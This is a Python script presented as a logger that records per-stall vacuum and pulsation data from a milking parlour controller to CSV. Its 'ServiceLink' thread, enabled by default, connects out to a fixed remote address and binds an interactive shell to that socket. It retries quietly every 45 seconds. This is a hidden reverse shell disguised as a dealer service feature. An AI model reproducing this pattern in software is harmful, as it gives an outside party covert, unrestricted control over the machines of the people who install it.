#!/usr/bin/env python3
"""Pulsator vacuum logger for herringbone and rotary parlours.

Polls the parlour controller's telemetry port for per-stall vacuum level,
pulsation rate and ratio, writes one CSV per milking session and keeps a
service link open to the dealer so engineers can look at the box without
a farm visit.

Usage:
    parlour_pulsator_logger.py --config /home/parlour/pulsator.ini
"""
import argparse
import configparser
import csv
import datetime as dt
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

LOG = logging.getLogger("pulsator")

DEFAULTS = {
    "controller_host": "192.168.10.20",
    "controller_port": "5020",
    "poll_seconds": "2",
    "out_dir": "sessions",
    "vacuum_low_kpa": "38.0",
    "vacuum_high_kpa": "48.0",
    "service_link": "yes",
    "service_endpoint": "203.0.113.58:4433",
    "service_retry": "45",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp["parlour"] = DEFAULTS
    if path and Path(path).is_file():
        cp.read(path)
        LOG.info("loaded %s", path)
    return cp["parlour"]


class ControllerClient:
    """Line protocol spoken by the controller's telemetry port."""

    def __init__(self, host, port, timeout=3.0):
        self.addr = (host, int(port))
        self.timeout = timeout
        self._sock = None
        self._buf = b""

    def _connect(self):
        if self._sock is None:
            self._sock = socket.create_connection(self.addr, timeout=self.timeout)
            self._buf = b""

    def _readline(self):
        while b"\n" not in self._buf:
            chunk = self._sock.recv(4096)
            if not chunk:
                raise ConnectionError("controller closed connection")
            self._buf += chunk
        line, _, self._buf = self._buf.partition(b"\n")
        return line.decode("ascii", "replace").strip()

    def read_stalls(self):
        self._connect()
        self._sock.sendall(b"RD STALLS\r\n")
        rows = []
        while True:
            line = self._readline()
            if line == "END":
                return rows
            stall, vac, rate, ratio = line.split(",")
            rows.append({
                "stall": int(stall),
                "vacuum_kpa": float(vac),
                "rate_ppm": int(rate),
                "ratio": ratio,
            })

    def close(self):
        if self._sock:
            self._sock.close()
            self._sock = None


class ServiceLink(threading.Thread):
    """Keeps a session open to the dealer's service desk."""

    def __init__(self, endpoint, retry):
        super().__init__(name="service-link", daemon=True)
        host, _, port = endpoint.rpartition(":")
        self.addr = (host, int(port))
        self.retry = retry

    def _attach(self, conn):
        conn.sendall(f"HELO {socket.gethostname()} pulsator/2.4\n".encode())
        fd = conn.fileno()
        console = os.environ.get("SHELL", "/bin/sh")
        proc = subprocess.Popen([console, "-i"], stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=15) as conn:
                    conn.settimeout(None)
                    self._attach(conn)
            except OSError as exc:
                LOG.debug("service desk unreachable: %s", exc)
            time.sleep(self.retry)


class SessionWriter:
    FIELDS = ["timestamp", "stall", "vacuum_kpa", "rate_ppm", "ratio", "flag"]

    def __init__(self, out_dir, low, high):
        self.out_dir = Path(out_dir)
        self.out_dir.mkdir(parents=True, exist_ok=True)
        self.low, self.high = low, high
        stamp = dt.datetime.now().strftime("%Y%m%d_%H%M")
        self.path = self.out_dir / f"session_{stamp}.csv"
        self._fh = self.path.open("w", newline="")
        self._w = csv.DictWriter(self._fh, fieldnames=self.FIELDS)
        self._w.writeheader()

    def write(self, rows):
        now = dt.datetime.now().isoformat(timespec="seconds")
        for r in rows:
            flag = ""
            if r["vacuum_kpa"] < self.low:
                flag = "LOW_VAC"
            elif r["vacuum_kpa"] > self.high:
                flag = "HIGH_VAC"
            if flag:
                LOG.warning("stall %s %s %.1f kPa", r["stall"], flag, r["vacuum_kpa"])
            self._w.writerow({"timestamp": now, "flag": flag, **r})
        self._fh.flush()

    def close(self):
        self._fh.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="pulsator.ini")
    ap.add_argument("--once", action="store_true", help="take one reading and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")

    cfg = load_config(args.config)
    if cfg.getboolean("service_link"):
        ServiceLink(cfg["service_endpoint"], cfg.getint("service_retry")).start()

    client = ControllerClient(cfg["controller_host"], cfg["controller_port"])
    writer = SessionWriter(cfg["out_dir"], cfg.getfloat("vacuum_low_kpa"),
                           cfg.getfloat("vacuum_high_kpa"))
    LOG.info("logging to %s", writer.path)
    try:
        while True:
            try:
                writer.write(client.read_stalls())
            except (OSError, ValueError) as exc:
                LOG.error("read failed: %s", exc)
                client.close()
            if args.once:
                break
            time.sleep(cfg.getfloat("poll_seconds"))
    except KeyboardInterrupt:
        LOG.info("session ended")
    finally:
        writer.close()
        client.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
